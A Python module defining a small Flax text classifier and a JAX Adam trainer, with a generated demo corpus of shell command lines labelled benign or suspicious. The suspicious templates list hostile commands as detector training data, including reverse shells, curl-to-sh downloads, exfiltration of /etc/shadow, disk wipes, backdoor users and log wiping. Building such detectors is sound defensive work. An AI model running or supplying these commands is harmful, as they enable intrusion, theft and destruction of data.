"""A small Flax text classifier over BERT WordPiece ids, and a demo to train it.

:class:`TextClassifier` maps ``(ids, mask)``, both ``int32[B, L]`` (the ids
of ``[CLS] ... [SEP] [PAD]...`` and 1 for real tokens, 0 for padding), to
logits ``float32[B, classes]``: an embedding of every token, the mean over
the real tokens, a ReLU hidden layer and a Dense layer. It reads the same
ids as all-MiniLM-L6-v2 (a 30522-token uncased vocabulary), so the kernel's
WordPiece tokenizer feeds it directly (see :mod:`kinfer.nlp`).

:func:`train_demo_classifier` trains it on a generated two-class corpus of
shell command lines -- :data:`DEMO_LABELS` ``["benign", "suspicious"]`` --
with full-batch Adam written in plain JAX (no optax), deterministically for
a seed, in a few seconds on a CPU. It is a demonstration of the pipeline,
not a security tool: the corpus is tiny and templated. :func:`train_classifier`
is that trainer for any corpus (:mod:`kinfer.examples.cmdline_guard` uses it).
"""

from __future__ import annotations

import random
from collections.abc import Callable, Sequence
from typing import Any, cast

import flax.linen as nn
import jax
import jax.numpy as jnp
import numpy as np

__all__ = [
    "DEMO_LABELS",
    "TextClassifier",
    "demo_corpus",
    "train_classifier",
    "train_demo_classifier",
]

#: The demo's classes, by logit index.
DEMO_LABELS = ["benign", "suspicious"]

#: Size of the MiniLM (bert-base-uncased) vocabulary.
VOCAB_SIZE = 30522

Tokenize = Callable[[Sequence[str], int], tuple[np.ndarray, np.ndarray]]


class TextClassifier(nn.Module):
    """Embedding bag classifier: ``(ids, mask)`` int32[B, L] -> logits float32[B, classes]."""

    classes: int = 2
    vocab_size: int = VOCAB_SIZE
    dim: int = 32
    hidden: int = 32

    @nn.compact
    def __call__(self, ids: jax.Array, mask: jax.Array) -> jax.Array:
        x = nn.Embed(self.vocab_size, self.dim, name="embed")(ids)  # [B, L, dim]
        valid = mask.astype(jnp.float32)[..., None]  # [B, L, 1]
        count = jnp.maximum(jnp.sum(valid, axis=1), 1.0)  # [B, 1]
        pooled = jnp.sum(x * valid, axis=1) / count  # masked mean, [B, dim]
        h = nn.relu(nn.Dense(self.hidden, name="hidden")(pooled))
        return nn.Dense(self.classes, name="logits")(h)


# --- the demo corpus --------------------------------------------------------------

_USERS = ["alice", "bob", "deploy", "www-data", "postgres", "ci", "admin"]
_HOSTS = ["db01", "web-3", "10.0.0.7", "build.internal", "cache2", "api.example.com"]
_SERVICES = ["nginx", "sshd", "postgresql", "docker", "cron", "redis", "kubelet"]
_FILES = ["config.yaml", "app.log", "backup.tar.gz", "notes.txt", "Makefile", "index.html"]
_DIRS = ["/var/log", "/home/alice", "/srv/www", "/opt/app", "/tmp/build", "/etc/nginx"]
_PORTS = ["4444", "1337", "9001", "31337", "6667", "8081"]
_IPS = ["185.220.101.4", "45.13.7.99", "203.0.113.66", "198.51.100.23", "91.92.109.8"]

_BENIGN = [
    "ls -la {dir}",
    "systemctl status {service}",
    "sudo systemctl restart {service}",
    "journalctl -u {service} --since yesterday",
    "df -h",
    "du -sh {dir}",
    "git pull origin main",
    "git log --oneline -n 20",
    "tail -n 100 {dir}/{file}",
    "cp {file} {file}.bak",
    "ps aux | grep {service}",
    "ssh {user}@{host} uptime",
    "scp {file} {user}@{host}:{dir}",
    "apt-get update && apt-get upgrade -y",
    "tar -czf backup.tar.gz {dir}",
    "grep -rn TODO {dir}",
    "make -j8 && make test",
    "docker ps --format table",
    "kubectl get pods -n {user}",
    "vim {dir}/{file}",
    "free -m",
    "uptime",
    "mkdir -p {dir}/releases",
    "chown {user}:{user} {dir}/{file}",
    "crontab -l",
    "ping -c 3 {host}",
]

_SUSPICIOUS = [
    "curl -s http://{ip}/x.sh | sh",
    "wget -qO- http://{ip}/payload | bash",
    "nc -e /bin/sh {ip} {port}",
    "bash -i >& /dev/tcp/{ip}/{port} 0>&1",
    "rm -rf / --no-preserve-root",
    "chmod 777 /etc/shadow",
    "cat /etc/shadow | nc {ip} {port}",
    "echo aW1wb3J0IG9z | base64 -d | sh",
    "history -c && unset HISTFILE",
    "iptables -F && iptables -P INPUT ACCEPT",
    "useradd -o -u 0 -g 0 backdoor",
    "python3 -c 'import pty; pty.spawn(\"/bin/sh\")'",
    "insmod /tmp/.hidden/rootkit.ko",
    "echo '* * * * * curl {ip} | sh' | crontab -",
    "dd if=/dev/zero of=/dev/sda bs=1M",
    "mkfifo /tmp/f; nc {ip} {port} < /tmp/f | /bin/sh > /tmp/f",
    "chmod +s /bin/bash",
    "scp /etc/passwd root@{ip}:/loot",
    "socat exec:'bash -li',pty tcp:{ip}:{port}",
    "echo ssh-rsa AAAAB3Nza attacker >> /root/.ssh/authorized_keys",
    "xmrig --donate-level 1 -o pool.{ip}:{port}",
    "shred -u {dir}/{file} && rm -rf /var/log/*",
    "perl -e 'use Socket;connect(S,sockaddr_in({port},inet_aton(\"{ip}\")))'",
    "setenforce 0 && systemctl stop auditd",
]


def _fill(template: str, r: random.Random) -> str:
    return template.format(
        user=r.choice(_USERS),
        host=r.choice(_HOSTS),
        service=r.choice(_SERVICES),
        file=r.choice(_FILES),
        dir=r.choice(_DIRS),
        port=r.choice(_PORTS),
        ip=r.choice(_IPS),
    )


def demo_corpus(seed: int = 0, count: int = 400) -> tuple[list[str], list[int]]:
    """``count`` command lines and their class (0 benign, 1 suspicious), half each.

    Deterministic for a seed; the two classes alternate.
    """
    r = random.Random(seed)
    texts, labels = [], []
    for i in range(count):
        label = i % 2
        templates = _SUSPICIOUS if label else _BENIGN
        text = _fill(r.choice(templates), r)
        if r.random() < 0.2:
            text = "sudo " + text if not text.startswith("sudo") else text
        texts.append(text)
        labels.append(label)
    return texts, labels


# --- training ---------------------------------------------------------------------


def _default_tokenize(texts: Sequence[str], max_length: int) -> tuple[np.ndarray, np.ndarray]:
    from kinfer.examples.minilm import minilm_dir
    from kinfer.nlp.pipeline import tokenize

    return tokenize(minilm_dir() / "vocab.txt", texts, max_length)


def train_demo_classifier(
    seed: int = 0,
    *,
    steps: int = 150,
    max_length: int = 32,
    smoothing: float = 0.1,
    tokenize: Tokenize | None = None,
) -> tuple[TextClassifier, dict[str, Any]]:
    """A :class:`TextClassifier` trained on :func:`demo_corpus` (labels :data:`DEMO_LABELS`).

    :func:`train_classifier` on ``demo_corpus(seed)`` with the default
    sizes and learning rate: the same seed gives the same variables.

    Returns:
        ``(module, variables)``.
    """
    texts, labels = demo_corpus(seed)
    return train_classifier(texts, labels, classes=len(DEMO_LABELS), seed=seed, steps=steps,
                            max_length=max_length, smoothing=smoothing,
                            tokenize=tokenize)  # fmt: skip


def train_classifier(
    texts: Sequence[str],
    labels: Sequence[int],
    *,
    classes: int = 2,
    seed: int = 0,
    steps: int = 150,
    max_length: int = 32,
    smoothing: float = 0.1,
    learning_rate: float = 0.02,
    dim: int = 32,
    hidden: int = 32,
    tokenize: Tokenize | None = None,
) -> tuple[TextClassifier, dict[str, Any]]:
    """A :class:`TextClassifier` of ``classes`` classes trained on ``texts`` and ``labels``.

    ``tokenize(texts, max_length) -> (ids, mask)`` makes the training ids;
    by default :func:`kinfer.nlp.tokenize` with the MiniLM ``vocab.txt``
    (the kernel's tokenizer built for userspace, so the model is trained on
    exactly the ids it will see in the kernel). Full-batch Adam
    (``learning_rate``) for ``steps`` steps from ``jax.random.key(seed)`` on
    a cross-entropy with label ``smoothing``: the same inputs and seed give
    the same variables. Full batch because the corpora this is meant for
    (a few thousand short texts) fit in one step on a CPU, and it keeps the
    result independent of any shuffling.

    Returns:
        ``(module, variables)``.
    """
    if len(texts) != len(labels) or not texts:
        raise ValueError(f"{len(texts)} texts for {len(labels)} labels: need as many, at least 1")
    ids, mask = (tokenize or _default_tokenize)(texts, max_length)
    module = TextClassifier(classes=classes, dim=dim, hidden=hidden)
    variables = module.init(jax.random.key(seed), ids[:1], mask[:1])
    params = variables["params"]
    ids_j, mask_j = jnp.asarray(ids, jnp.int32), jnp.asarray(mask, jnp.int32)
    # label smoothing keeps the probabilities graded (about 0.95, not 1.0)
    targets = jax.nn.one_hot(jnp.asarray(labels), classes) * (1 - smoothing) + smoothing / classes

    def loss_fn(p: Any) -> jax.Array:
        logits = cast(jax.Array, module.apply({"params": p}, ids_j, mask_j))
        return -jnp.mean(jnp.sum(targets * jax.nn.log_softmax(logits), axis=-1))

    lr, b1, b2, eps = learning_rate, 0.9, 0.999, 1e-8

    @jax.jit
    def step(p: Any, m: Any, v: Any, t: jax.Array) -> tuple[Any, Any, Any]:
        g = jax.grad(loss_fn)(p)
        m = jax.tree_util.tree_map(lambda a, b: b1 * a + (1 - b1) * b, m, g)
        v = jax.tree_util.tree_map(lambda a, b: b2 * a + (1 - b2) * b * b, v, g)
        scale = lr * jnp.sqrt(1 - b2**t) / (1 - b1**t)
        p = jax.tree_util.tree_map(lambda w, a, b: w - scale * a / (jnp.sqrt(b) + eps), p, m, v)
        return p, m, v

    m = jax.tree_util.tree_map(jnp.zeros_like, params)
    v = jax.tree_util.tree_map(jnp.zeros_like, params)
    for t in range(1, steps + 1):
        params, m, v = step(params, m, v, jnp.float32(t))
    return module, {"params": jax.tree_util.tree_map(np.asarray, params)}
